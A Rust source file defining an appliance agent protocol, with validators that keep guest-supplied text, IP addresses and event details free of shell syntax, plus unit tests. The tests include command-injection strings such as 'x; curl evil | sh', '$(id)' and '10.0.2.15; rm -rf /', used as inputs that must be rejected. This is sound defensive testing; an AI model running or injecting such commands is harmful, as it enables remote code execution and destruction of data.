//! The appliance agent protocol (`/agent/v1`): announce, heartbeat, metrics, jobs. Spoken by the agent
//! binary inside every appliance and, in-process, by the simulated pool.

use crate::ApplianceId;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use std::collections::BTreeMap;
use validator::{Validate, ValidationError};

/// Custom metrics an agent may report at once.
pub const CUSTOM_METRICS_MAX: usize = 64;

fn invalid(code: &'static str, message: &'static str) -> ValidationError {
    ValidationError::new(code).with_message(Cow::Borrowed(message))
}

/// What an appliance reports of itself is untrusted input: short printable text only.
fn short_text(value: &str) -> Result<(), ValidationError> {
    if value.len() > 253 || value.chars().any(|c| c.is_control()) {
        return Err(invalid(
            "invalid_text",
            "must be at most 253 bytes without control characters",
        ));
    }
    Ok(())
}

/// An IPv4 or IPv6 address in its canonical text form.
fn ip_address(value: &str) -> Result<(), ValidationError> {
    match value.parse::<std::net::IpAddr>() {
        Ok(ip) if ip.to_string() == value => Ok(()),
        _ => Err(invalid("invalid_ip", "must be an IPv4 or IPv6 address")),
    }
}

fn custom_metrics(values: &BTreeMap<String, f64>) -> Result<(), ValidationError> {
    if values.len() > CUSTOM_METRICS_MAX
        || values
            .iter()
            .any(|(k, v)| crate::validate::identifier(k).is_err() || !v.is_finite())
    {
        return Err(invalid(
            "invalid_metrics",
            "at most 64 custom metrics, named like identifiers, with finite values",
        ));
    }
    Ok(())
}

/// The header-less bearer token an agent presents: `<appliance id>.<mac>`.
pub const TOKEN_HEADER_PREFIX: &str = "Bearer ";

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, Validate)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(deny_unknown_fields)]
pub struct AnnounceRequest {
    #[validate(length(max = 64), custom(function = "short_text"))]
    #[cfg_attr(
        feature = "openapi",
        schema(max_length = 64, pattern = r"^[^\u0000-\u001f\u007f-\u009f]*$")
    )]
    pub agent_version: String,
    #[validate(custom(function = "short_text"))]
    #[cfg_attr(
        feature = "openapi",
        schema(max_length = 253, pattern = r"^[^\u0000-\u001f\u007f-\u009f]*$")
    )]
    pub hostname: String,
    /// The address the appliance serves on, as the guest sees it.
    #[validate(custom(function = "ip_address"))]
    #[cfg_attr(feature = "openapi", schema(schema_with = crate::validate::ip_schema))]
    pub ip: Option<String>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct AnnounceResponse {
    pub appliance_id: ApplianceId,
    pub heartbeat_secs: u32,
    pub metrics_secs: u32,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, Validate)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(deny_unknown_fields)]
pub struct HeartbeatRequest {
    pub uptime_secs: u64,
}

/// Standard metrics plus the custom ones scripts write to the agent's metrics file.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize, Validate)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(deny_unknown_fields)]
pub struct MetricsReport {
    #[validate(range(min = 0.0, max = 100.0))]
    #[cfg_attr(feature = "openapi", schema(minimum = 0.0, maximum = 100.0))]
    pub cpu_pct: f64,
    #[validate(range(min = 0.0, max = 1.0e6))]
    #[cfg_attr(feature = "openapi", schema(minimum = 0.0, maximum = 1.0e6))]
    pub load1: f64,
    pub mem_used_mib: u64,
    pub mem_total_mib: u64,
    pub net_rx_bytes: u64,
    pub net_tx_bytes: u64,
    #[serde(default)]
    #[validate(custom(function = "custom_metrics"))]
    #[cfg_attr(feature = "openapi", schema(schema_with = crate::validate::custom_metrics_schema))]
    pub custom: BTreeMap<String, f64>,
}

/// The most output of one stream (stdout or stderr) a job result carries; the agent keeps the first
/// bytes up to this bound and says it truncated.
pub const JOB_OUTPUT_MAX: usize = 64 * 1024;
/// The longest a job may run.
pub const JOB_TIMEOUT_MAX_SECS: u32 = 3600;

/// Work for the agent: rendered CloudScripts to run, oldest first.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct JobsResponse {
    pub jobs: Vec<Job>,
}

/// One CloudScript run on this appliance. The script is run as an executable file, so its shebang
/// chooses the interpreter (a script without one runs with `/bin/sh`); `env` holds the script's
/// variables; the agent kills the script (and its process group) after `timeout_secs`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Job {
    pub id: String,
    pub script: String,
    #[serde(default)]
    pub env: BTreeMap<String, String>,
    pub timeout_secs: u32,
}

/// How a job ended, as the agent saw it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, Validate)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(deny_unknown_fields)]
pub struct JobResult {
    /// The exit code; `None` when the script was killed (timeout or signal) or could not start.
    pub exit_code: Option<i32>,
    /// Killed after its timeout.
    #[serde(default)]
    pub timed_out: bool,
    #[validate(length(max = 65536))]
    #[cfg_attr(feature = "openapi", schema(max_length = 65536))]
    pub stdout: String,
    #[validate(length(max = 65536))]
    #[cfg_attr(feature = "openapi", schema(max_length = 65536))]
    pub stderr: String,
    /// Output beyond [`JOB_OUTPUT_MAX`] was dropped.
    #[serde(default)]
    pub truncated: bool,
    pub duration_ms: u64,
}

/// The longest detail of a custom event (bytes).
pub const EVENT_DETAIL_MAX: usize = 4096;

/// What a custom event's detail may hold: letters, digits, blanks and `. , : _ / = @ + - # %`. The
/// detail comes from inside a guest (any process there can read the agent's token) and rules put it
/// into scripts (`{{ event.detail }}`), so it never carries quotes, `$`, backticks, `;`, `|`, `&`,
/// redirections, brackets or line breaks a shell would act on.
pub fn event_detail_char(c: char) -> bool {
    c.is_alphanumeric() || " .,:_/=@+-#%".contains(c)
}

fn event_detail(value: &str) -> Result<(), ValidationError> {
    if value.len() > EVENT_DETAIL_MAX || !value.chars().all(event_detail_char) {
        return Err(ValidationError::new("invalid_detail").with_message(Cow::from(format!(
            "must be at most {EVENT_DETAIL_MAX} bytes of letters, digits, blanks and . , : _ / = @ + - # %"
        ))));
    }
    Ok(())
}

/// A custom event a script posts through its appliance's agent (`scaleinfra-agent emit <name>`):
/// recorded as `custom.<name>` about the appliance, for the rules of its application.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, Validate)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(deny_unknown_fields)]
pub struct EventRequest {
    /// `[a-z][a-z0-9_]*`, at most 64 characters.
    #[validate(custom(function = "crate::api::variable_name"))]
    #[cfg_attr(feature = "openapi", schema(pattern = r"^[a-z][a-z0-9_]{0,63}$"))]
    pub name: String,
    /// Free text for the rules and the history (`event.detail`).
    #[serde(default)]
    #[validate(custom(function = "event_detail"))]
    #[cfg_attr(feature = "openapi", schema(max_length = 4096))]
    pub detail: String,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct EventResponse {
    pub event_id: crate::EventId,
    /// `custom.<name>`.
    #[serde(rename = "type")]
    pub type_: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn custom_events_are_named_like_variables_and_bounded() {
        let ok = EventRequest {
            name: "deployed".into(),
            detail: "release 4.2-rc1 by ops@example.org, 100% of web/app #7".into(),
        };
        assert!(ok.validate().is_ok());
        for (name, detail) in [
            ("Deployed", String::new()),
            ("custom.x", String::new()),
            ("", String::new()),
            ("ok", "x".repeat(EVENT_DETAIL_MAX + 1)),
            ("ok", "a\0b".into()),
            ("ok", "x; curl evil | sh".into()),
            ("ok", "$(id)".into()),
            ("ok", "`id`".into()),
            ("ok", "it's".into()),
            ("ok", "a\nb".into()),
            ("ok", "a > b".into()),
        ] {
            let r = EventRequest {
                name: name.into(),
                detail,
            };
            assert!(r.validate().is_err(), "{name}");
        }
    }

    #[test]
    fn what_an_agent_reports_is_bounded() {
        let ok = AnnounceRequest {
            agent_version: "0.1.0".into(),
            hostname: "web-1".into(),
            ip: Some("10.0.2.15".into()),
        };
        assert!(ok.validate().is_ok());
        let bad = [
            AnnounceRequest {
                ip: Some("10.0.2.15; rm -rf /".into()),
                ..ok.clone()
            },
            AnnounceRequest {
                ip: Some("010.000.002.015".into()),
                ..ok.clone()
            },
            AnnounceRequest {
                hostname: "x".repeat(254),
                ..ok.clone()
            },
            AnnounceRequest {
                hostname: "a\nb".into(),
                ..ok.clone()
            },
            AnnounceRequest {
                agent_version: "v".repeat(65),
                ..ok.clone()
            },
        ];
        for b in bad {
            assert!(b.validate().is_err(), "{b:?}");
        }
        let mut m = MetricsReport::default();
        assert!(m.validate().is_ok());
        m.custom = (0..65).map(|i| (format!("m{i}"), 1.0)).collect();
        assert!(m.validate().is_err());
        m.custom = BTreeMap::from([("Bad Name".to_owned(), 1.0)]);
        assert!(m.validate().is_err());
        m.custom = BTreeMap::from([("rps".to_owned(), 12.5)]);
        m.cpu_pct = 101.0;
        assert!(m.validate().is_err());
    }
}
